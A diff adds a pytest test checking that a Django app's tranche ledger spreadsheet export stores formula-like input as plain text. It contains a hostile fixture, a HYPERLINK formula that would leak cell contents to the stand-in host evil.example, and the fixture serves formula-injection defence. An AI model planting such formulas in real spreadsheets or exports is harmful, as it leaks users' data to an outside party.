@@ -599,3 +599,30 @@ def test_tracking_totals_count_every_proposal_not_only_the_listed_ones(world, cl
     assert total["paid"] == 30_000_000 and total["approved"] == 900_000_000
     assert total["rate"] == _half_up(30_000_000, 900_000_000) == Decimal("3.33")
     assert total["counterpart"] == expected["counterpart"] == 2_100_000_000
+
+
+@pytest.mark.django_db
+def test_the_ledger_export_writes_formula_like_text_as_plain_text(world, client):
+    proposal, _ = signed()
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A3,"Xem")'
+    services.payment_record(
+        proposal=proposal,
+        actor=staff(14, role="centre_staff"),
+        kind="payment",
+        source="kcdp",
+        amount=1_000_000,
+        paid_on=D,
+        voucher_number="=1+1",
+        treasury_reference=hostile,
+        note="@SUM(A1:A9)",
+        idempotency_key=uuid.uuid4().hex,
+    )
+    login(client, "ministry")
+    sheet = load_workbook(
+        io.BytesIO(client.get(reverse("tranche-ledger-export", args=[proposal.pk])).content)
+    ).active
+    voucher, reference, note = sheet["H3"], sheet["I3"], sheet["L3"]
+    assert (voucher.value, voucher.data_type) == ("=1+1", "s")
+    assert (reference.value, reference.data_type) == (hostile, "s")
+    assert (note.value, note.data_type) == ("@SUM(A1:A9)", "s")
+    assert sheet["D3"].value == 1_000_000 and sheet["D3"].data_type == "n"
